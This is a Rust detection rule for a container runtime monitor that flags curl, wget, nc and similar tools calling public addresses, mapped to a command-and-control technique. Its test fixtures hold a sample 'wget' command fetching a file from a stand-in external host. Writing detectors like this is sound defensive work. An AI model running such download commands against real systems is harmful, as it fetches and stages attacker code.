//! A tool calls a public address.

use crate::runtime::prelude::*;

runtime_rule! {
    /// A tool calls a public address
    ///
    /// `curl`, `wget`, `nc` and their like in a container talk for whoever started them. Applications have
    /// clients of their own.
    ///
    /// **Benign:** Entry points and jobs that fetch something with `curl`; health checks stay quiet,
    /// because they ask within the cluster.
    ///
    /// **Respond:** See who started the tool and what was fetched.
    "RUN-064" {
        severity: Medium,
        attack: CommandAndControl "T1105",
        on: ["flow"],
        fires: [
            r#"{flow: {peer: 203.0.113.9, port: 8000}, process: "wget http://203.0.113.9:8000/x", by: sh}"#,
            r"{flow: {peer: 203.0.113.9, port: 22}, process: ssh}",
        ],
        quiet: [
            r"{flow: {peer: 10.0.0.9, port: 80}, process: curl}",
            r#"{flow: {peer: 203.0.113.9, port: 443}, process: "/app/server"}"#,
            r"{flow: {peer: 203.0.113.9, port: 443, count: 0, sent: 9}, process: curl}",
            r"{flow: {peer: 203.0.113.9, port: 443}, process: curl, at: host}",
        ],
        run: One(run),
    }
}

fn run(scene: &Scene<'_>, found: &mut Found) {
    let Some(flow) = scene.flow() else {
        return;
    };
    let begins = flow.direction == Direction::Out && flow.count > 0 && is_public(flow.peer);
    let tool =
        programs::is_downloader(scene.program()) || programs::is_network_tool(scene.program());
    if scene.in_container() && begins && tool {
        found
            .say(format!("{} called {}", scene.who(), scene.peer_words()))
            .with("flow.peer", flow.peer.to_string());
        let named = flow.name().is_some() && matches!(flow.port, 80 | 443);
        if named {
            found.lower_to(Severity::Low);
        }
    }
}
